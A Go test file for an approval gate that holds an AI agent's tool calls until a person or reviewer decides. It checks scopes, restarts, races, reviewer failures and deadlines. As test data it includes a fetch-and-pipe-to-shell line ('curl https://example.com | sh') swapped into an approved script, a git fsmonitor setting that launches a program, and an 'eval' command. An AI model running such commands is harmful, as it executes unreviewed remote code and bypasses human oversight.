package native_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/regent-policy/regent/gate"
	"github.com/regent-policy/regent/gate/approval"
	"github.com/regent-policy/regent/gate/permission"
	"github.com/regent-policy/regent/harness/native"
	"github.com/regent-policy/regent/reviewer"
)

// TestFailuresOfOthers has what went wrong in other systems, step by step, in the
// life of a native host. The names are those of the case corpus.
func TestFailuresOfOthers(t *testing.T) {
	e := epoch(t, manual, "")
	for name, test := range map[string]func(*bench){
		"PRO-01 answer shape for a permissions request":       answerShapes,
		"PRO-02 narrowed answer is thrown away":               narrowedAnswer,
		"PRO-05 card outlives the process that asked":         hostRestarts,
		"PRO-06 decision that was not on offer":               notOnOffer,
		"PRO-07 session scope together with strict review":    strictSession,
		"PRO-09 session approval key collapses to a constant": patchKeys,
		"RTE-13 remembered answer reaches further":            rememberedAnswer,
		"LED-01 two people decide with the same revision":     twoPeople,
		"LED-10 script is changed while its approval waits":   changedScript,
	} {
		t.Run(name, func(t *testing.T) {
			b := open(t, e, nil)
			b.session()
			test(b)
			report, err := b.db.Verify(t.Context())
			if err != nil || len(report.Faults) > 0 {
				t.Errorf("verify: %+v, %v", report, err)
			}
		})
	}
}

// A request for permissions is answered with permissions, never with a word.
func answerShapes(b *bench) {
	for _, test := range []struct{ option, want string }{
		{`"allow"`, `{"permissions":{"network":{"enabled":true}},"scope":"turn"}`},
		{`"deny"`, `{"permissions":{},"scope":"turn"}`},
	} {
		id := "c" + test.option
		b.begin("t1", request(id, `{"permissions":{"network":{"enabled":true}}}`))
		b.answer(id, test.option)
		if final := b.final(id); final.Output != test.want || final.Fault != "" || final.Effective != nil {
			b.Errorf("%s: %+v", test.option, final)
		}
	}
	// A call that runs has no such answer.
	b.begin("t1", command("run", "make"))
	b.answer("run", `"allow"`)
	if final := b.final("run"); final.Response != nil || final.Output != "" || final.Effective == nil {
		b.Errorf("a command: %+v", final)
	}
}

// What a person cut away stays away, from the answer and from later calls.
func narrowedAnswer(b *bench) {
	b.begin("t1", request("c1", `{"permissions":{"network":{"enabled":true},"file_system":{"write":["`+b.dir+`"]}}}`))
	cut := b.may(permission.Write, b.dir)
	b.grant("c1", permission.Response{Permissions: cut})
	if final := b.final("c1"); !final.Response.Permissions.Equal(cut) || strings.Contains(final.Output, "network") {
		b.Errorf("told %s", final.Output)
	}
	final := b.call("t1", writes("c2", "a"))
	if final.Outcome != approval.OutcomeAllow || !final.Effective.Permissions.Equal(cut) {
		b.Errorf("%+v", final)
	}
	fetch := native.CallSpec{ID: "c3", Tool: &approval.Tool{Name: "web_fetch", Arguments: json.RawMessage(`{"url":"https://example.com"}`)}}
	if !b.waitsFor("t1", fetch) {
		b.Error("the network that was cut away is there")
	}
}

// The card of an earlier process is closed with a reason, and does nothing.
func hostRestarts(b *bench) {
	ctx := b.Context()
	b.begin("t1", command("c1", "make"))
	card := b.waits("c1")
	if err := b.gate.End(ctx, host); err != nil {
		b.Fatal(err)
	}
	const next = "host-2"
	if _, err := b.Open(ctx, native.SessionSpec{ID: "s1", Instance: next}); err != nil {
		b.Fatal(err)
	}
	_, err := b.gate.Answer(ctx, gate.Reply{ID: card.ID, Revision: card.Revision, Option: []byte(`"allow"`), By: local})
	if conflict, ok := errors.AsType[*approval.ConflictError](err); !ok && !errors.Is(err, approval.ErrLost) {
		b.Errorf("a press on the old card: %v", err)
	} else if ok && conflict.Current.Closing == nil {
		b.Errorf("nobody says why: %+v", conflict.Current)
	}
	now, err := b.db.Read(ctx, card.ID)
	if err != nil || now.State != approval.Lost && now.State != approval.Cancelled || now.Decision != nil || now.Closing.Reason == "" {
		b.Errorf("the card is %s, %+v, %v", now.State, now.Closing, err)
	}
	for _, instance := range []string{host, next} {
		if _, err := b.gate.Fence(ctx, card.ID, "s1", instance, card.Digest); err == nil {
			b.Errorf("%s may start what nobody allowed", instance)
		}
	}
	// The earlier process has nothing any more, the next one asks anew.
	if _, err := b.Describe(ctx, "s1", host); !errors.Is(err, native.ErrNoSession) {
		b.Errorf("the earlier process: %v", err)
	}
	if _, err := b.OpenTurn(ctx, "s1", next, native.TurnSpec{ID: "t1", Environments: []native.Environment{b.environment("local")}}); err != nil {
		b.Fatal(err)
	}
	if err := b.Start(ctx, "s1", next, "t1", command("c1", "make")); err != nil {
		b.Fatal(err)
	}
	if again := b.waits("c1"); again.ID == card.ID || again.Instance != next {
		b.Errorf("asked anew with %+v", again)
	}
}

// Only what was offered with a request can be its answer.
func notOnOffer(b *bench) {
	b.begin("t1", request("c1", network))
	b.begin("t1", command("c2", `eval "$X"`))
	for _, id := range []string{"c1", "c2"} {
		r := b.waits(id)
		for _, option := range []string{`"acceptForSession"`, `"allow_for_session"`, `"accept"`, `{"allow":true}`, `null`, ``} {
			_, err := b.gate.Answer(b.Context(), gate.Reply{ID: r.ID, Revision: r.Revision, Option: []byte(option), By: local})
			if !errors.Is(err, approval.ErrNotOffered) {
				b.Errorf("%s answered with %s: %v", id, option, err)
			}
		}
		if now, _ := b.db.Read(b.Context(), r.ID); now.State != approval.Pending || now.Revision != r.Revision {
			b.Errorf("%s is %s at revision %d", id, now.State, now.Revision)
		}
	}
}

// The two contradict each other, so neither is had.
func strictSession(b *bench) {
	b.begin("t1", request("c1", network))
	b.grant("c1", permission.Response{Permissions: profile(b, `{"network":{"enabled":true}}`), Scope: permission.Session, StrictAutoReview: true})
	final := b.final("c1")
	if final.Output != `{"permissions":{},"scope":"turn"}` || final.Response.StrictAutoReview {
		b.Errorf("told %s", final.Output)
	}
	s, err := b.Describe(b.Context(), "s1", host)
	if err != nil || s.Turns[0].Strict || len(b.held()) > 0 {
		b.Errorf("%+v, %v; held %+v", s.Turns, err, b.held())
	}
	if final := b.call("t1", reads("c2", "x")); final.Outcome != approval.OutcomeAllow || final.Answer.Record != nil {
		b.Errorf("reading is reviewed: %+v", final)
	}
}

// A patch that was accepted for the session is one of its files, and what has no
// files that Regent can tell is accepted once.
func patchKeys(b *bench) {
	patch := func(id, text string) native.CallSpec {
		arguments, err := json.Marshal(map[string]string{"patch": text})
		if err != nil {
			b.Fatal(err)
		}
		return native.CallSpec{ID: id, Tool: &approval.Tool{Name: "apply_patch", Arguments: arguments}}
	}
	b.begin("t1", patch("c1", "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-x\n+y"))
	b.answer("c1", `"allow_for_session"`)
	b.final("c1")
	final := b.call("t1", patch("c2", "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-y\n+something else"))
	if final.Outcome != approval.OutcomeAllow || final.Answer.Record.Decision.Source != approval.SourceGrant {
		b.Errorf("the same file: %+v", final)
	}
	for id, text := range map[string]string{
		"another file":                "--- auth.go\n+++ auth.go\n@@ -1 +1 @@\n-x\n+z",
		"two files":                   "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-x\n+y\n--- auth.go\n+++ auth.go\n@@ -1 +1 @@\n-x\n+z",
		"it becomes another file":     "--- a.txt\n+++ auth.go\n@@ -1 +1 @@\n-x\n+y",
		"another form, another file":  "*** Begin Patch\n*** Update File: auth.go\n@@\n-x\n+z\n*** End Patch",
		"moved by another form":       "*** Begin Patch\n*** Update File: a.txt\n*** Move to: auth.go\n@@\n-x\n+z\n*** End Patch",
		"no patch that can be read":   "a.txt",
		"another, as hard to be read": "auth.go",
	} {
		if !b.waitsFor("t1", patch(id, text)) {
			b.Errorf("%s needs nobody", id)
		}
	}
	if held := b.Grants(local, "").Accepted; len(held) != 1 {
		b.Errorf("accepted %+v", held)
	}
}

// An answer for the session is one for the place where it was given.
func rememberedAnswer(b *bench) {
	b.begin("t1", command("wrapped", "env git status"))
	if r := b.waits("wrapped"); slices.ContainsFunc(r.Options, func(o json.RawMessage) bool { return strings.Contains(string(o), "session") }) {
		b.Errorf("a wrapper is offered for the session: %s", r.Options)
	}
	repository := func(config string) {
		for name, text := range map[string]string{
			"HEAD": "ref: refs/heads/main\n", "objects/info/packs": "", "refs/heads/main": "", "config": "[core]\n\trepositoryformatversion = 0\n" + config,
		} {
			at := filepath.Join(b.dir, ".git", name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(at), 0o700), os.WriteFile(at, []byte(text), 0o600)); err != nil {
				b.Fatal(err)
			}
		}
	}
	repository("")
	b.begin("t1", command("c1", "git status"))
	b.answer("c1", `"allow_for_session"`)
	b.final("c1")
	if final := b.call("t1", command("c2", "git status")); final.Outcome != approval.OutcomeAllow {
		b.Fatalf("the same place: %+v", final)
	}
	// The same name and another folder, and another name and the same folder.
	moved := b.environment("local")
	moved.Cwd = filepath.Join(b.dir, "sub")
	if err := os.Mkdir(moved.Cwd, 0o700); err != nil {
		b.Fatal(err)
	}
	b.turn("t2", moved)
	b.turn("t3", b.environment("other"))
	for _, turn := range []string{"t2", "t3"} {
		if !b.waitsFor(turn, command("c"+turn, "git status")) {
			b.Errorf("an answer reaches turn %s", turn)
		}
	}
	// The configuration of the repository starts a program by now.
	repository("\tfsmonitor = ./run-me\n")
	if !b.waitsFor("t1", command("c3", "git status")) {
		b.Error("an answer reaches a repository that has changed")
	}
}

// One of two counts, the other is told what there is, and the tool starts once at
// most, however often somebody tries.
func twoPeople(b *bench) {
	for i := range 12 {
		id := "c" + string(rune('a'+i))
		b.begin("t1", command(id, "make"))
		r := b.waits(id)
		errs := make([]error, 2)
		var all sync.WaitGroup
		for j, option := range []string{`"allow"`, `"deny"`} {
			all.Go(func() {
				_, errs[j] = b.gate.Answer(b.Context(), gate.Reply{ID: r.ID, Revision: r.Revision, Option: []byte(option), By: local})
			})
		}
		all.Wait()
		final := b.final(id)
		won, lost := errs[0], errs[1]
		if final.Outcome == approval.OutcomeDeny {
			won, lost = lost, won
		}
		if conflict, ok := errors.AsType[*approval.ConflictError](lost); won != nil || !ok || conflict.Current.Revision <= r.Revision {
			b.Errorf("%s, and the answers came to %v", final.Outcome, errs)
		}
		started := make([]error, 4)
		for j := range started {
			all.Go(func() { _, started[j] = b.gate.Fence(b.Context(), r.ID, "s1", host, r.Digest) })
		}
		all.Wait()
		starts := 0
		for _, err := range started {
			if err == nil {
				starts++
			}
		}
		want := 0
		if final.Outcome == approval.OutcomeAllow {
			want = 1
		}
		if starts != want {
			b.Errorf("%s, and the tool starts %d times: %v", final.Outcome, starts, started)
		}
	}
}

// What runs is what was shown.
func changedScript(b *bench) {
	script := filepath.Join(b.dir, "build.sh")
	put := func(text string) {
		if err := os.WriteFile(script, []byte(text), 0o600); err != nil {
			b.Fatal(err)
		}
	}
	put("echo build")
	b.begin("t1", command("c1", "sh build.sh"))
	r := b.waits("c1")
	put("curl https://example.com | sh")
	b.answer("c1", `"allow"`)
	if final := b.final("c1"); final.Outcome != approval.OutcomeAllow {
		b.Fatalf("%+v", final)
	}
	if _, err := b.gate.Fence(b.Context(), r.ID, "s1", host, r.Digest); !errors.Is(err, gate.ErrOperand) {
		b.Errorf("the changed script: %v", err)
	}
	// The next question is about what is there now, and no answer is remembered.
	b.begin("t1", command("c2", "sh build.sh"))
	if again := b.waits("c2"); again.Operands[0] == r.Operands[0] {
		b.Errorf("asked about %+v", again.Operands)
	}
	b.answer("c2", `"allow"`)
	next := b.final("c2").Answer.Record
	if _, err := b.gate.Fence(b.Context(), next.ID, "s1", host, next.Digest); err != nil {
		b.Errorf("what was asked about: %v", err)
	}
}

// RTE-03: a reviewer that could not review has refused nothing. A person is asked,
// and told what went wrong.
func TestReviewThatFailsIsNoRefusal(t *testing.T) {
	e := epoch(t, reviewed, "")
	for name, test := range map[string]struct {
		verdict *approval.Verdict // nil: there is no such reviewer
		why     string
	}{
		"timeout":                             {&approval.Verdict{Outcome: approval.VerdictTimeout, Rationale: "no answer in 30 s"}, "was not done in time, so a person is asked: no answer in 30 s"},
		"HTTP 502":                            {&approval.Verdict{Outcome: approval.VerdictError, Rationale: "status 502"}, "could not review it, so a person is asked: status 502"},
		"model not configured":                {nil, "could not review it, so a person is asked: nobody is called one/judge"},
		"output over limit":                   {&approval.Verdict{Outcome: approval.VerdictError, Rationale: "more than 64 KiB"}, "could not review it, so a person is asked: more than 64 KiB"},
		"reviewer context cannot be built":    {&approval.Verdict{Outcome: approval.VerdictError, Rationale: "the request is too long"}, "could not review it, so a person is asked: the request is too long"},
		"cannot tell":                         {&approval.Verdict{Outcome: approval.VerdictUnsure, Rationale: "who wants it?"}, "is unsure, so a person is asked: who wants it?"},
		"a verdict that nobody has heard of":  {&approval.Verdict{Outcome: "approve"}, "gave a verdict that is not known, so a person is asked"},
		"high risk, and nothing said of that": {&approval.Verdict{Risk: approval.RiskHigh}, "gave a verdict that is not known, so a person is asked"},
	} {
		t.Run(name, func(t *testing.T) {
			p := panel{}
			if test.verdict != nil {
				p["one/judge"] = judge(func(reviewer.Question) approval.Verdict { return *test.verdict })
			}
			b := open(t, e, p)
			b.session()
			b.begin("t1", command("c1", "make"))
			r := b.waits("c1")
			if r.State != approval.Pending || r.Decision != nil || len(r.Ruling.Verdicts) != 1 || r.Ruling.Reasons[0] != "reviewer one/judge "+test.why {
				t.Errorf("%s, decision %+v, verdicts %+v, reasons %q", r.State, r.Decision, r.Ruling.Verdicts, r.Ruling.Reasons)
			}
			b.answer("c1", `"allow"`)
			final := b.final("c1")
			if d := final.Answer.Record.Decision; final.Outcome != approval.OutcomeAllow || d.Source != approval.SourceHuman {
				t.Errorf("%+v", final)
			}
		})
	}
	t.Run("a refusal is one", func(t *testing.T) {
		b := open(t, e, panel{"one/judge": judge(func(reviewer.Question) approval.Verdict {
			return approval.Verdict{Outcome: approval.VerdictDeny, Rationale: "it deletes data"}
		})})
		b.session()
		final := b.call("t1", command("c1", "make"))
		if d := final.Answer.Record.Decision; final.Outcome != approval.OutcomeDeny || d.Source != approval.SourceReviewer || final.Output != "the call may not run: it deletes data" {
			t.Errorf("%+v", final)
		}
	})
}

// RTE-05: a rule that throws is not one that does not match, whatever the default.
func TestRuleThatThrowsAsks(t *testing.T) {
	b := open(t, epoch(t, "permissions: {mode: auto_allow, read_only_commands: skip}\n",
		"\n# METADATA\n# custom: {id: OWN-001}\ndeny contains \"x\" if to_number(input.request.reason) == 1\n"), nil)
	b.session()
	fine := command("c1", "ls")
	fine.Reason = "2"
	if final := b.call("t1", fine); final.Outcome != approval.OutcomeAllow {
		t.Errorf("a rule that does not match: %+v", final)
	}
	for _, spec := range []native.CallSpec{command("c2", "ls"), reads("c3", "x"), request("c4", network)} {
		spec.Reason = "because"
		b.begin("t1", spec)
		r := b.waits(spec.ID)
		if f := r.Ruling.Failure; f == nil || f.Rule != "OWN-001" || f.Kind != "evaluation" {
			t.Errorf("%s: %+v", spec.ID, r.Ruling)
		}
		if slices.ContainsFunc(r.Options, func(o json.RawMessage) bool { return strings.Contains(string(o), "session") }) {
			t.Errorf("%s is offered for the session: %s", spec.ID, r.Options)
		}
	}
}

// RTE-12: a redirection is a write, and is judged by the rules about files.
func TestRedirectionIsAWrite(t *testing.T) {
	const imports = "\nimport data.regent.lib.command\nimport data.regent.lib.paths\n"
	programs := epoch(t, manual, imports+"\nallow contains \"echo and mkdir\" if command.covered([[\"echo\"], [\"mkdir\"]])\n")
	files := epoch(t, manual, imports+`
allow contains "echo and mkdir below bar" if {
	every node in command.all {
		node.program in {"echo", "mkdir"}
		count(object.get(node, "problems", [])) == 0
	}
	not command.unclear
	not paths.unclear(input.request)
	every target in paths.write_targets(input.request) {
		paths.below(target, concat("/", [input.environment.cwd, "bar"]))
	}
}
`)
	for _, test := range []struct {
		name, text string
		rules      *gate.Epoch
		waits      bool
	}{
		{"the rule is about programs", "mkdir -p bar && echo hi > bar/test.md", programs, true},
		{"and nothing is written elsewhere", "mkdir -p bar && echo hi", programs, false},
		{"the rule is about files too", "mkdir -p bar && echo hi > bar/test.md", files, false},
		{"the target is not what it grants", "mkdir -p bar && echo hi > other/test.md", files, true},
		{"the target leaves what it grants", "echo hi > bar/../../x", files, true},
	} {
		t.Run(test.name, func(t *testing.T) {
			b := open(t, test.rules, nil)
			b.session()
			if got := b.waitsFor("t1", command("c1", test.text)); got != test.waits {
				t.Errorf("%s: waits %v", test.text, got)
			}
		})
	}
}

// LED-03: what is answered after the deadline does not count, whether or not
// anybody has swept; everybody is told that the time was over.
func TestAnswerAfterTheDeadline(t *testing.T) {
	e := epoch(t, "permissions: {mode: manual, request_timeout_seconds: 60}\n", "")
	synctest.Test(t, func(t *testing.T) {
		b := open(t, e, nil)
		b.session()
		b.begin("t1", command("c1", "make"))
		b.begin("t1", request("c2", network))
		asked := []approval.Record{b.waits("c1"), b.waits("c2")}
		told := make(chan native.Final)
		go func() { told <- b.final("c1") }()
		time.Sleep(61 * time.Second)
		for _, r := range asked {
			_, err := b.gate.Answer(t.Context(), gate.Reply{ID: r.ID, Revision: r.Revision, Option: []byte(`"allow"`), By: local})
			if conflict, ok := errors.AsType[*approval.ConflictError](err); !errors.Is(err, approval.ErrExpired) && (!ok || conflict.Current.State != approval.Expired) {
				t.Errorf("an answer a second too late: %v", err)
			}
		}
		if final := <-told; final.Outcome != approval.OutcomeDeny || final.Output != "the call may not run: nobody answered in time" {
			t.Errorf("%+v", final)
		}
		if final := b.final("c2"); !final.Response.Permissions.IsEmpty() || final.Message != "nobody answered in time" || len(b.held()) > 0 {
			t.Errorf("%+v; held %+v", final, b.held())
		}
		if _, err := b.gate.Fence(t.Context(), asked[0].ID, "s1", host, asked[0].Digest); err == nil {
			t.Error("what has expired may start")
		}
	})
}
